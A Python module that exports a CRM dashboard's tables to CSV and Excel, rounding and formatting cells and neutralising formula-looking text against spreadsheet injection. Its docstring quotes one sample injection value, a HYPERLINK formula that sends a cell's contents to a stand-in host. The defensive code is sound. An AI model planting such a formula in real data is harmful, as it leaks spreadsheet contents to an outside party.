"""CSV and Excel files of a table, safe to open in a spreadsheet and rounded as the page shows them.

Any CRM user can title a deal `=HYPERLINK("http://x/?leak="&A1,"x")`. A spreadsheet runs a cell that starts
with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so (as the OWASP CSV-injection guidance
says) such a text cell gets a leading `'` in CSV, and in Excel it is written as a string cell with Excel's
own quote prefix (the title reads as typed and never runs). Numbers stay numbers: a negative amount is not
text. Control characters, which Excel files cannot hold (openpyxl refuses them and the download would fail
silently), are dropped.

Each column is written by its kind (dashboard.tables.kind_of, the same kinds the page formats by): counts
whole, money to kopecks, shares as percents, dates as dates, yes/no in words of the UI's language.
"""

from __future__ import annotations

import io
from collections.abc import Mapping
from datetime import date, datetime
from typing import Any

import numpy as np
import pandas as pd
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

from queries.cells import FORMULA_START, neutral  # one rule for every export (the CLI's CSV too)

# Decimal places kept per column kind (dashboard.tables.KINDS). A share (0..1) is shown as a whole percent,
# so it keeps 2 places: 0.16666 -> 0.17 (17 %). `num` is any other number, which the page shows whole
# (counts the tables module does not list by name, ids): whole in the file too.
PLACES = {"money": 2, "num": 0, "pct": 2, "dec1": 1, "delta": 0, "int": 0}
WHOLE = ("int", "num", "delta")
EXCEL_FORMATS = {
    "money": "#,##0.00", "num": "#,##0", "int": "#,##0", "pct": "0%", "dec1": "#,##0.0",
    "delta": "+#,##0;-#,##0;0",
}
# (date, date and time, month) per UI language
DATE_FORMATS = {"ru": ("DD.MM.YYYY", "DD.MM.YYYY HH:MM", "MM.YYYY"),
                "en": ("mmm d, yyyy", "mmm d, yyyy h:mm AM/PM", "mmm yyyy")}
CSV_DATES = {"date": "%Y-%m-%d", "datetime": "%Y-%m-%d %H:%M", "month": "%Y-%m"}
YES_NO = {"ru": ("да", "нет"), "en": ("yes", "no")}
MAX_WIDTH = 60


def clean(text: str) -> str:
    """Text without the control characters an Excel file cannot hold (tab, newline and CR stay)."""
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def _missing(value: Any) -> bool:
    if value is None:
        return True
    try:
        return bool(pd.isna(value))
    except (TypeError, ValueError):  # lists and arrays
        return False


def rounded(df: pd.DataFrame, kinds: Mapping[str, str] | None) -> pd.DataFrame:
    """Numbers rounded as the page shows them; whole-number columns as integers (3, not 3.0)."""
    out = df.copy()
    for col, kind in (kinds or {}).items():
        if col not in out.columns or kind not in PLACES or not pd.api.types.is_numeric_dtype(out[col]):
            continue
        if pd.api.types.is_bool_dtype(out[col]):
            continue
        out[col] = out[col].round(PLACES[kind])
        if kind in WHOLE:
            out[col] = out[col].astype("Int64")
    return out


def _local(df: pd.DataFrame) -> pd.DataFrame:
    """Instants as portal-local wall time (spreadsheets have no time zones; the page shows local time)."""
    out = df.copy()
    for col in out.columns:
        if isinstance(out[col].dtype, pd.DatetimeTZDtype):
            out[col] = out[col].dt.tz_localize(None)
    return out


def _is_flag(series: pd.Series, kind: str | None) -> bool:
    return kind == "flag" or pd.api.types.is_bool_dtype(series)


def _yes_no(value: Any, lang: str) -> Any:
    """A yes/no cell in words of the UI's language (a Russian file never says `True`); empty stays empty."""
    if _missing(value):
        return None
    yes, no = YES_NO.get(lang, YES_NO["ru"])
    return yes if bool(value) else no


def _text(value: Any) -> Any:
    """A cell's value as a spreadsheet should get it: lists joined, text cleaned; other values as they are."""
    if isinstance(value, list | tuple | np.ndarray):  # DuckDB lists arrive as arrays
        value = ", ".join(str(v) for v in value)
    return clean(value) if isinstance(value, str) else value


def _csv_cell(value: Any) -> Any:
    value = _text(value)
    return neutral(value) if isinstance(value, str) else value


def _csv_column(series: pd.Series, kind: str | None, lang: str) -> pd.Series:
    if _is_flag(series, kind):
        return series.map(lambda v: _yes_no(v, lang))
    if kind in CSV_DATES and pd.api.types.is_datetime64_any_dtype(series):
        return series.dt.strftime(CSV_DATES[kind])  # a date without a midnight; NaT stays empty
    if pd.api.types.is_numeric_dtype(series) or pd.api.types.is_datetime64_any_dtype(series):
        return series
    return series.map(_csv_cell)


def to_csv(df: pd.DataFrame, kinds: Mapping[str, str] | None = None, lang: str = "ru") -> bytes:
    """UTF-8 with a BOM (so Excel reads Cyrillic), CRLF rows (RFC 4180: a field holding a CR or LF is then
    quoted); formula-looking text neutralised."""
    out = _local(rounded(df, kinds))
    for col in out.columns:
        out[col] = _csv_column(out[col], (kinds or {}).get(col), lang)
    text = out.to_csv(index=False, date_format="%Y-%m-%d %H:%M", lineterminator="\r\n")
    return text.encode("utf-8-sig")


def _date_format(kind: str | None, value: Any, lang: str) -> str | None:
    """The column's kind decides (a `date` column's values arrive as midnight timestamps); a column of no
    known kind goes by the value."""
    day, moment, month = DATE_FORMATS.get(lang, DATE_FORMATS["ru"])
    if kind in ("date", "datetime", "month"):
        return {"date": day, "datetime": moment, "month": month}[kind]
    return moment if isinstance(value, datetime) else day


def _put(cell: Any, value: Any, kind: str | None, lang: str) -> None:
    value = _text(value)
    if _missing(value):
        return
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if hasattr(value, "item") and not isinstance(value, str):  # numpy scalars
        value = value.item()
    if isinstance(value, str):
        cell.value = value
        cell.data_type = "s"  # openpyxl would store `=...` as a formula
        cell.quotePrefix = value.startswith(FORMULA_START)  # and Excel keeps it text even when edited
        return
    if isinstance(value, date):
        if kind in ("date", "month") and isinstance(value, datetime):
            value = value.date()
        cell.value = value
        cell.number_format = _date_format(kind, value, lang)
        return
    cell.value = value
    if kind in EXCEL_FORMATS and isinstance(value, int | float) and not isinstance(value, bool):
        cell.number_format = EXCEL_FORMATS[kind]


def to_excel(df: pd.DataFrame, kinds: Mapping[str, str] | None = None, lang: str = "ru") -> bytes:
    """One sheet: a bold header, every text a string cell, numbers and dates with their formats."""
    book = Workbook()
    sheet = book.active
    out = _local(rounded(df, kinds))
    for col in out.columns:
        if _is_flag(out[col], (kinds or {}).get(col)):
            out[col] = out[col].map(lambda v: _yes_no(v, lang))
    columns = [str(c) for c in out.columns]
    for col_no, title in enumerate(columns, start=1):
        _put(sheet.cell(row=1, column=col_no), title, None, lang)
        sheet.cell(row=1, column=col_no).font = Font(bold=True)
    widths = [len(title) for title in columns]
    for row_no, row in enumerate(out.itertuples(index=False, name=None), start=2):
        for col_no, value in enumerate(row, start=1):
            cell = sheet.cell(row=row_no, column=col_no)
            _put(cell, value, (kinds or {}).get(columns[col_no - 1]), lang)
            if isinstance(cell.value, str):
                widths[col_no - 1] = max(widths[col_no - 1], len(cell.value))
    for col_no, width in enumerate(widths, start=1):
        letter = sheet.cell(row=1, column=col_no).column_letter
        sheet.column_dimensions[letter].width = min(width + 2, MAX_WIDTH)
    sheet.freeze_panes = "A2"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
